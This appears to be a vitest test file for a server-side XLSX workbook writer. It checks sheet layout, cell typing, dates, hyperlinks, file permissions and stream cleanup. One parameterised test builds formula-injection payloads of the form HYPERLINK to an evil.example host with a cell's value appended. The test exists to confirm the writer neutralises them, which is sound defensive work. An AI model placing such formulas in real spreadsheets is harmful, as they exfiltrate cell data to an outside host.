import { stat } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { temporaryFolder } from "~tests/store";
import { column, type Values, writeColumn, writeRows } from "~tests/written-workbook";
import { columnName } from "./sheet-xml.server";
import { type Column, writeWorkbook } from "./workbook-writer.server";

describe("the sheet", () => {
  it("freezes the header row, filters what was written, and gives each column a format", async () => {
    const columns = [{ ...column(0, "text"), width: 30 }, column(1, "number", "Bewertung")];
    const values = ["a", 1];
    const { book, result } = await writeRows(columns, [values, values]);
    expect(result).toEqual({ rows: 2 });
    expect(book.sheet).toContain(
      `<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>`,
    );
    expect(book.sheet).toContain(`<autoFilter ref="A1:B3"/>`);
    expect(book.parts.get("xl/workbook.xml")).toContain(
      `<definedName name="_xlnm._FilterDatabase" localSheetId="0" hidden="1">&apos;Leads&apos;!$A$1:$B$3</definedName>`,
    );
    expect(book.sheet).toMatch(/<col min="1" max="1" style="3" width="30\.\d+" customWidth="1"\/>/);
    expect(book.cell("B1")?.text).toBe("Bewertung");
    const font = /fontId="(\d)"/.exec(book.format("B1"))?.[1];
    const fonts = [...(book.parts.get("xl/styles.xml") ?? "").matchAll(/<font>.*?<\/font>/g)];
    expect(fonts[Number(font)]?.[0]).toContain("<b/>");
    expect([0, 25, 26, 16_383].map(columnName)).toEqual(["A", "Z", "AA", "XFD"]);
  });

  it("orders its elements as the schema wants, in parts that the content types name", async () => {
    const { book } = await writeRows([column(0, "link")], [["https://example.com/"]]);
    const children = book.sheet.replace(/<sheetData>.*<\/sheetData>/s, "<sheetData/>");
    const names = [...children.matchAll(/<(\w+)/g)].map(([, name = ""]) => name);
    const wanted = ["sheetViews", "cols", "sheetData", "autoFilter", "hyperlinks", "ignoredErrors"];
    expect(names.filter((name) => wanted.includes(name))).toEqual(wanted);
    const [first, ...parts] = book.parts.keys();
    expect(first).toBe("[Content_Types].xml");
    const types = book.parts.get("[Content_Types].xml") ?? "";
    const named = [...types.matchAll(/PartName="\/([^"]+)"/g)].map(([, name]) => name);
    const rest = parts.filter((name) => !name.endsWith(".rels"));
    expect(rest.toSorted()).toEqual(named.toSorted());
  });

  it("is complete without any row", async () => {
    const { book, result } = await writeRows([column(0, "text"), column(1, "link")], []);
    expect(result).toEqual({ rows: 0 });
    expect(book.sheet).toContain(`<autoFilter ref="A1:B1"/>`);
    expect(book.sheet).not.toContain("<hyperlinks");
  });
});

describe("cells", () => {
  it("hold numbers as numbers, and codes with their noughts as texts", async () => {
    const numbers = await writeColumn("number", [4.7, null]);
    expect(numbers.cell("A2")).toEqual({ style: 0, type: null, text: "4.7" });
    expect(numbers.cell("A3")).toBeUndefined();
    const book = await writeColumn("text", ["01067", "+49 30 1234", 80331]);
    expect(book.cell("A2")).toMatchObject({ type: "inlineStr", text: "01067" });
    expect(book.cell("A4")).toMatchObject({ type: "inlineStr", text: "80331" });
    expect(book.format("A2")).toContain(`numFmtId="49"`);
    expect(book.format("A2")).not.toContain("quotePrefix");
    expect(book.format("A3")).toContain(`quotePrefix="1"`);
  });

  it("hold times as dates, or as texts where Excel can't show them", async () => {
    const times = [Date.UTC(2026, 10, 21, 11), Date.UTC(1850, 0, 1)];
    const book = await writeColumn("datetime", times);
    expect(book.cell("A2")).toEqual({ style: 5, type: null, text: "46347.5" });
    expect(book.format("A2")).toContain(`numFmtId="164"`);
    expect(book.parts.get("xl/styles.xml")).toContain(
      `<numFmt numFmtId="164" formatCode="dd.mm.yyyy hh:mm"/>`,
    );
    expect(book.cell("A3")?.text).toBe("1850-01-01T00:00:00.000Z");
  });

  it("keep white space at the edges, and are cut without splitting a pair", async () => {
    const most = "x".repeat(32_767);
    const texts = ["Müller  GmbH", " vorn", "hinten ", most, `${most}y`, `${most.slice(1)}😀`];
    const book = await writeColumn("text", texts);
    const shown = texts.map((_, index) => book.cell(`A${index + 2}`)?.text);
    expect(shown).toEqual([...texts.slice(0, 4), most, most.slice(1)]);
    expect(book.sheet.match(/xml:space/g)).toHaveLength(2);
  });

  it("lead to web and mail addresses, as many as Excel allows, and show them unchanged", async () => {
    const rows = Array.from({ length: 65_540 }, (_, index) => [`https://example.com/${index}`]);
    const first = ["https://example.com/?a=1&b=<2>", "info@example.com"];
    const { book } = await writeRows([column(0, "link"), column(1, "email")], [first, ...rows]);
    expect(book.cell("A2")?.text).toBe(first[0]);
    expect(book.links.get("A2")).toBe("https://example.com/?a=1&b=%3C2%3E");
    expect(book.links.get("B2")).toBe("mailto:info@example.com");
    expect(book.format("A2")).toContain(`fontId="2"`);
    expect(book.links.size).toBe(65_530);
    expect(book.cell("A65540")).toMatchObject({ style: 3, text: "https://example.com/65537" });
  });

  it.each(["text", "link", "email", "number", "datetime"] as const)(
    "of kind %s hold no formula, also when somebody edits one",
    async (kind) => {
      const signs = ["=", "+", "-", "@", ..."＝＋－＠", "  =", "\0=", "\t", "\r", "\n", '"='];
      const attacks = signs.map((sign) => `${sign}HYPERLINK("http://evil.example/?x="&A1,"Klick")`);
      const { book } = await writeRows(
        attacks.map((text, index) => column(index, kind, text)),
        [attacks],
      );
      expect(book.sheet).not.toMatch(/<f[ >/]/);
      for (const [index, text] of attacks.entries()) {
        for (const cell of [`${columnName(index)}1`, `${columnName(index)}2`]) {
          const shown = text.replace("\0", "");
          expect(book.cell(cell)).toMatchObject({ type: "inlineStr", text: shown });
          expect(book.format(cell)).toContain(`quotePrefix="1"`);
        }
      }
    },
  );
});

describe("the file", () => {
  const COLUMNS: Column<Values>[] = [column(0, "text")];
  const options = { sheetName: "Leads", columns: COLUMNS, timeZone: "UTC" };

  it("grows while the rows are still coming, for its owner alone", async () => {
    const path = join(await temporaryFolder(), "test.xlsx");
    async function* rows(): AsyncGenerator<Values> {
      for (let index = 0; index < 20_000; index += 1) yield [`Zeile ${index}`];
      const sizeOf = async () => (await stat(path)).size;
      await expect.poll(sizeOf, { timeout: 10_000 }).toBeGreaterThan(20_000);
    }
    expect(await writeWorkbook({ ...options, path, rows: rows() })).toEqual({ rows: 20_000 });
    expect((await stat(path)).mode & 0o777).toBe(0o600);
  });

  it("closes the rows when one fails, or the disk is full", async () => {
    const folder = await temporaryFolder();
    let open = 0;
    function* rows(failsAt: number): Generator<Values> {
      open += 1;
      try {
        for (let index = 0; ; index += 1) {
          if (index === failsAt) throw new Error("a row is broken");
          yield [`${Math.random()}`];
        }
      } finally {
        open -= 1;
      }
    }
    const path = join(folder, "test.xlsx");
    const broken = writeWorkbook({ ...options, path, rows: rows(50_000) });
    await expect(broken).rejects.toThrow("a row is broken");
    const full = writeWorkbook({ ...options, path: "/dev/full", rows: rows(Infinity) });
    await expect(full).rejects.toThrow("ENOSPC");
    await expect.poll(() => open).toBe(0);
  });
});
